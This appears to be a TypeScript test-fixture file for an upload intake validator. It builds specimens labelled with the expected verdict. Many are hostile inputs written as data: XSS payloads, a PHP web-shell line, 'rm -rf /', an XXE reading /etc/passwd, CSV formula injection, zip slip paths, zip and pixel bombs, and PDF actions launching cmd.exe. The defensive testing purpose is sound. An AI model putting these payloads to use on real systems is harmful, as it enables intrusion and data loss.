/** What strangers send as evidence, F15: each with the verdict that is right, and with what must be gone from it when it is taken. */
import { deflateSync } from 'node:zlib'
import type { Refusal } from '../../server/intake/limits.ts'
import { packed, paperOf, pdfOf } from './pdf-made.ts'
import { chunk, hugePng, jpegOf, pngOf, remarked, resized, withChunk, withSegment } from './pictures-made.ts'
import { zipOf } from './zip-made.ts'

export type Specimen = {
  readonly name: string
  readonly bytes: Buffer
  readonly verdict: 'taken' | Refusal
  /** Words that no byte of what is kept may spell. */
  readonly gone?: readonly string[]
}

const script = '<script>alert(document.domain)</script>'
const secret = 'CANARY-PLACE-46.5N-LI'
const trial = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-${'TEST-FILE!$H+H*'}`
const rest = (
  verdict: Specimen['verdict'],
  named: Readonly<Record<string, Buffer | string>>,
  gone?: readonly string[],
): readonly Specimen[] =>
  Object.entries(named).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes), verdict, ...(gone && { gone }) }))

/** Of no kind that is taken, whatever they are called. */
const ofNoKind: Readonly<Record<string, Buffer | string>> = {
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  'svg with a declaration': `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
  html: `<!doctype html>${script}`,
  'html after spaces': `\n\n   <html>${script}`,
  xhtml: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
  gif: 'GIF89a\x01\x00\x01\x00\x00\x00\x00;',
  webp: 'RIFF\x00\x00\x00\x00WEBPVP8 ',
  bmp: 'BM\x00\x00\x00\x00',
  tiff: 'II*\x00\x08\x00\x00\x00',
  heic: '\x00\x00\x00\x18ftypheic',
  avif: '\x00\x00\x00\x1cftypavif',
  ico: '\x00\x00\x01\x00\x01\x00',
  psd: '8BPS\x00\x01',
  postscript: '%!PS-Adobe-3.0\n(%pipe%id) (w) file',
  'windows program': 'MZ\x90\x00\x03',
  'linux program': '\x7fELF\x02\x01\x01',
  'shell script': '#!/bin/sh\nrm -rf /',
  javascript: 'alert(1)//',
  php: '<?php system($_GET[0]);',
  'gzip archive': Buffer.from('1f8b0800', 'hex'),
  'rar archive': 'Rar!\x1a\x07\x00',
  '7z archive': Buffer.from('377abcaf271c', 'hex'),
  xml: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  csv: '=cmd|calc!A0,1',
  rtf: '{\\rtf1\\object}',
  mp4: '\x00\x00\x00\x18ftypmp42',
  'plain text': '身份证',
  'one byte': '\x89',
  'half a png mark': '\x89PNG',
  'pdf mark behind a byte': ' %PDF-1.4\n%%EOF',
  'pdf mark behind a page of html': `${script}\n%PDF-1.7\n%%EOF`,
  'pdf mark in another case': '%pdf-1.4\n%%EOF',
  'byte-order mark before pdf': '\ufeff%PDF-1.7',
  ofd: Buffer.from('4f46440a', 'hex'),
}
const strangers = (): readonly Specimen[] => [
  ...rest('empty', { 'nothing at all': '' }),
  ...rest('kind', ofNoKind),
  ...rest('virus', { 'the trial file of scanners': trial, 'the same in a pdf': pdfOf({ more: [{ head: '', data: trial }] }) }),
]

const xml = (name: string, data: string) => ({ name, data })
const word = [xml('[Content_Types].xml', '<Types/>'), xml('word/document.xml', '<w:document/>')]
/** Office files and archives are no evidence, with and without harm in them. */
const offices = (): readonly Specimen[] =>
  rest('office', {
    docx: zipOf(word),
    docm: zipOf([...word, { name: 'word/vbaProject.bin', data: 'Sub AutoOpen()' }]),
    xlsx: zipOf([xml('xl/workbook.xml', '<workbook/>')]),
    xlsm: zipOf([xml('xl/workbook.xml', '<workbook/>'), { name: 'xl/vbaProject.bin', data: 'x' }]),
    'old doc': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    'locked docx': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
    zip: zipOf([{ name: 'a.png', data: '' }]),
    jar: zipOf([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil' }]),
    apk: zipOf([{ name: 'AndroidManifest.xml', data: '' }]),
    'a bomb': zipOf([{ name: 'bomb', data: Buffer.alloc(20_000_000) }]),
    'a zip within a zip': zipOf([{ name: 'inner.zip', data: zipOf([{ name: 'bomb', data: Buffer.alloc(1_000_000) }]) }]),
    'a name that leaves the folder': zipOf([{ name: '../../etc/cron.d/evil', data: 'x' }]),
    'a link': zipOf([{ name: 'link', data: '/etc/passwd', mode: 0o120777 }]),
  })

const names: Readonly<Record<string, string>> = {
  JavaScript: '/S /JavaScript /JS (app.alert\\(1\\))',
  'a script under an escaped name': '/S /J#61vaScript /J#53 (app.alert\\(1\\))',
  'a script in hexadecimal': '/S /#4a#61#76#61#53#63#72#69#70#74 /JS <6170702e616c6572742831293b>',
  'a script that lies elsewhere': '/S /Rendition /JS 9 0 R',
  Launch: '/S /Launch /F (cmd.exe)',
  'a launched program of windows': '/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>',
  SubmitForm: '/S /SubmitForm /F (http://evil.test)',
  ImportData: '/S /ImportData /F (c:/secret.fdf)',
  GoToE: '/S /GoToE /T << /R /C /N (x) >>',
}

/** At every place from which a reader would run it. */
const acting = (): readonly Specimen[] =>
  Object.entries(names).flatMap(([name, action]) =>
    rest('acts', {
      [`pdf: ${name} when it opens`]: pdfOf({ catalog: `/OpenAction << ${action} >>` }),
      [`pdf: ${name} on a page`]: pdfOf({ page: `/AA << /O << ${action} >> >>` }),
      [`pdf: ${name} on a link`]: pdfOf({ page: '/Annots [5 0 R]', more: [`<< /Type /Annot /Subtype /Link /A << ${action} >> >>`] }),
      [`pdf: ${name} packed in a stream`]: pdfOf({ more: [packed([`<< ${action} >>`])] }),
      [`pdf: ${name} behind a comment`]: pdfOf({ more: [`% (\n<< ${action} >>`] }),
    }),
  )

const objectWithin = `5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj`
const furtherActing = (): readonly Specimen[] => [
  ...rest('acts', {
    'pdf: a form of XML': pdfOf({ catalog: '/AcroForm << /XFA 5 0 R >>', more: [{ head: '', data: '<xdp:xdp/>' }] }),
    'pdf: a film': pdfOf({ page: '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]' }),
    'pdf: scripts by name': pdfOf({ catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: ['<< >>'] }),
    'pdf: an object in the data of another': pdfOf({ more: [{ head: '', data: `${objectWithin}\n` }] }),
    'pdf: a script after the end': pdfOf({ tail: `${objectWithin}\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n` }),
    'pdf: a stream of objects that calls itself nothing': pdfOf({
      more: [{ head: '/N 1 /First 5 /Filter /Fl', data: deflateSync(Buffer.from('20 0 << /S /JavaScript /JS (x) >>')) }],
    }),
    'pdf: a stream of objects that is not packed': pdfOf({
      more: [{ head: '/Type /ObjStm /N 1 /First 5', data: '20 0 << /S /JavaScript /JS (x) >>' }],
    }),
    'pdf: a bracket that is never closed before it': pdfOf({ more: ['<< /A (\\( ) /S /JavaScript /JS (x) >>'] }),
  }),
  ...rest('damaged', {
    'pdf: a stream of objects packed twice': pdfOf({
      more: [{ head: '/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]', data: '00>' }],
    }),
    'pdf: a stream of objects by a filter elsewhere': pdfOf({
      more: [{ head: '/Type /ObjStm /N 1 /First 5 /Filter 9 0 R', data: 'x' }],
    }),
    'pdf: a stream of objects that is no such': pdfOf({
      more: [{ head: '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', data: 'nothing packed' }],
    }),
  }),
]

const locked = (): readonly Specimen[] => [
  ...rest('encrypted', {
    'pdf: locked by RC4': pdfOf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>' }),
    'pdf: locked by AES': pdfOf({ trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /O (x) /U (x) /P -4 >>' }),
    'pdf: locked by an object': pdfOf({ trailer: '/Encrypt 5 0 R', more: ['<< /Filter /Standard /V 4 >>'] }),
    'pdf: locked under an escaped name': pdfOf({ trailer: '/Encr#79pt 5 0 R', more: ['<< /Filter /Standard >>'] }),
    'pdf: locked by a certificate': pdfOf({ trailer: '/Encrypt << /Filter /Adobe.PubSec >>' }),
    'pdf: locked by its table in a stream': pdfOf({ more: [{ head: '/Type /XRef /Encrypt 9 0 R', data: 'x' }] }),
  }),
]

const carrying = (): readonly Specimen[] => [
  ...rest('embedded', {
    'pdf: a file within': pdfOf({ more: [{ head: '/Type /EmbeddedFile', data: 'MZ' }] }),
    'pdf: files by name': pdfOf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>', more: ['<< >>'] }),
    'pdf: a file pinned to a page': pdfOf({ page: '/Annots [<< /Subtype /FileAttachment >>]' }),
    'pdf: files by a packed name': pdfOf({ more: [packed(['<< /EmbeddedFiles << >> >>'])] }),
    'pdf: files by an escaped name': pdfOf({ more: ['<< /#45mbeddedFiles << >> >>'] }),
  }),
  ...rest('twoInOne', {
    'pdf and zip': pdfOf({ tail: zipOf([{ name: 'a.exe', data: 'MZ' }]) }),
    'pdf and docx': pdfOf({ tail: zipOf(word) }),
    'pdf and jar': pdfOf({ tail: zipOf([{ name: 'META-INF/MANIFEST.MF', data: '' }]) }),
    'pdf and html': Buffer.concat([Buffer.from(`%PDF-1.7\n%${script}\n`), pdfOf().subarray(9)]),
    'pdf and svg': Buffer.concat([Buffer.from('%PDF-1.7\n%<svg onload=alert(1)>\n'), pdfOf().subarray(9)]),
  }),
]

const broken = async (): Promise<readonly Specimen[]> => {
  const [pdf, png, jpeg] = [pdfOf(), await pngOf(400, 300), await jpegOf(400, 300)]
  const bad = (bytes: Buffer, at: number) =>
    Buffer.concat([bytes.subarray(0, at), Buffer.from([(bytes[at] ?? 0) ^ 0xff]), bytes.subarray(at + 1)])
  return rest('damaged', {
    'pdf: the mark alone': '%PDF-1.7',
    'pdf: the mark and noise': Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000, 'noise ')]),
    'pdf: half of it': pdf.subarray(0, pdf.length >> 1),
    'pdf: without its end': pdf.subarray(0, -40),
    'pdf: without a page': Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF'),
    'pdf: nothing but an end': '%PDF-1.7\n%%EOF',
    'pdf: pages that are their own': '%PDF-1.7\n1 0 obj\n<< /Type /Page /Kids [1 0 R] >>\nendobj\nstartxref\n9\n%%EOF',
    'png: the mark alone': png.subarray(0, 8),
    'png: half of it': png.subarray(0, png.length >> 1),
    'png: a head that is wrong': bad(png, 16),
    'png: a jpeg inside': Buffer.concat([png.subarray(0, 8), jpeg]),
    'png: no picture': Buffer.concat([png.subarray(0, 33), chunk('IEND', Buffer.alloc(0))]),
    'jpeg: the mark alone': jpeg.subarray(0, 3),
    'jpeg: half of it': jpeg.subarray(0, jpeg.length >> 1),
    'jpeg: the head alone': jpeg.subarray(0, 200),
    'jpeg: html behind the mark': Buffer.concat([jpeg.subarray(0, 3), Buffer.from(script)]),
    'jpeg: noise behind the mark': Buffer.concat([jpeg.subarray(0, 4), Buffer.alloc(10_000, 0x41)]),
  })
}

const bombs = async (): Promise<readonly Specimen[]> => [
  ...rest('manyPixels', {
    'png: 900 million pixels': hugePng(30_000, 30_000),
    'png: one row of a thousand million': hugePng(1_000_000, 1_000),
    'png: 51 million pixels': hugePng(8_500, 6_000),
    'jpeg: 900 million pixels': resized(await jpegOf(), 30_000, 30_000),
    'jpeg: 4,300 million pixels': resized(await jpegOf(), 65_500, 65_500),
  }),
  ...rest('tooMuch', {
    'pdf: objects that unpack to a hundred megabytes': pdfOf({
      more: [{ head: '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', data: deflateSync(Buffer.alloc(100_000_000, ' ')) }],
    }),
    'pdf: many streams of objects': pdfOf({
      more: Array.from({ length: 9 }, () => ({
        head: '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
        data: deflateSync(Buffer.alloc(8_000_000, ' ')),
      })),
    }),
    'pdf: objects within objects': Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(1_000_000, '1 0 obj('), pdfOf().subarray(9)]),
    'pdf: a million marks in one object': pdfOf({ more: [`[ ${'0 '.repeat(1_200_000)}]`] }),
  }),
]

/** Evidence, as it comes: with the camera's remarks, with more behind its end, in odd but honest shapes. */
const honest = async (): Promise<readonly Specimen[]> => {
  const [png, jpeg] = [await pngOf(), await jpegOf()]
  return [
    ...rest('taken', {
      'png: plain': png,
      'jpeg: plain': jpeg,
      'png: one dot': await pngOf(1, 1),
      'jpeg: one dot': await jpegOf(1, 1),
      'jpeg: twelve million pixels': await jpegOf(4_000, 3_000),
      'png: 49 million pixels': await pngOf(7_000, 7_000),
      'pdf: plain': pdfOf(),
      'pdf: a link to a page of the web': pdfOf({ page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.cn) >> >>]' }),
      'pdf: opens at its first page': pdfOf({ catalog: '/OpenAction [3 0 R /Fit]' }),
      'pdf: the word of a script in a sentence': pdfOf({
        more: ['<< /Note (see /JavaScript and /Launch) >>', { head: '', data: '(/JS) Tj' }],
      }),
      'pdf: objects packed in a stream': pdfOf({ more: [packed(['<< /Fine true >>', '[1 2 3]'])] }),
      'pdf: four megabytes': paperOf('long', 4_000_000),
      'pdf: bytes that look like a ZIP within': pdfOf({ more: [{ head: '', data: 'PK\x05\x06 and so on' }] }),
    }),
  ]
}

/** Evidence that says more than it shows: it is taken, and that is gone. */
const telling = async (): Promise<readonly Specimen[]> => {
  const [png, jpeg] = [await pngOf(), await jpegOf()]
  const zip = zipOf([{ name: 'evil.class', data: 'x' }])
  return [
    ...rest(
      'taken',
      {
        'jpeg: the remarks of a camera': await remarked('jpeg', secret),
        'png: the remarks of a camera': await remarked('png', secret),
        'jpeg: a comment': withSegment(jpeg, 0xfe, Buffer.from(secret)),
        'jpeg: a remark of Photoshop': withSegment(jpeg, 0xed, Buffer.from(`Photoshop 3.0\0${secret}`)),
        'png: a text': withChunk(png, 'tEXt', Buffer.from(`Author\0${secret}`)),
        'png: a packed text': withChunk(png, 'iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${secret}`)),
        'png: a chunk of nobody’s': withChunk(png, 'prVt', Buffer.from(secret)),
        'jpeg: a zip behind it': Buffer.concat([jpeg, Buffer.from(secret), zip]),
        'png: a zip behind it': Buffer.concat([png, Buffer.from(secret), zip]),
        'jpeg: a page of html behind it': Buffer.concat([jpeg, Buffer.from(script + secret)]),
        'png: a page of html in a text': withChunk(png, 'tEXt', Buffer.from(`Comment\0${script}${secret}`)),
        'jpeg: a pdf in a comment': withSegment(jpeg, 0xfe, Buffer.concat([pdfOf(), Buffer.from(secret)])),
        'png: a program of PHP in a text': withChunk(png, 'tEXt', Buffer.from(`a\0<?php system('${secret}') ?>`)),
        'jpeg: a program behind it': Buffer.concat([jpeg, Buffer.from(`MZ${secret}`)]),
        'pdf: who made it': pdfOf({ trailer: '/Info 5 0 R', more: [`<< /Author (${secret}) /Creator (${secret}) /Title (${secret}) >>`] }),
        'pdf: who made it, packed': pdfOf({ trailer: '/Info 20 0 R', more: [packed([`<< /Author (${secret}) /Producer (${secret}) >>`])] }),
        'pdf: who made it, in XML': pdfOf({
          catalog: '/Metadata 5 0 R',
          more: [{ head: '/Type /Metadata /Subtype /XML', data: `<x>${secret}</x>` }],
        }),
        'pdf: a photograph with remarks': pdfOf({
          more: [
            { head: '/Type /XObject /Subtype /Image /Filter /DCTDecode', data: withSegment(jpeg, 0xe1, Buffer.from(`Exif\0\0${secret}`)) },
          ],
        }),
      },
      [secret, '<script', 'PK\x03\x04', '<?php'],
    ),
  ]
}

export const corpus = async (): Promise<readonly Specimen[]> => [
  ...strangers(),
  ...offices(),
  ...acting(),
  ...furtherActing(),
  ...locked(),
  ...carrying(),
  ...(await broken()),
  ...(await bombs()),
  ...(await honest()),
  ...(await telling()),
]
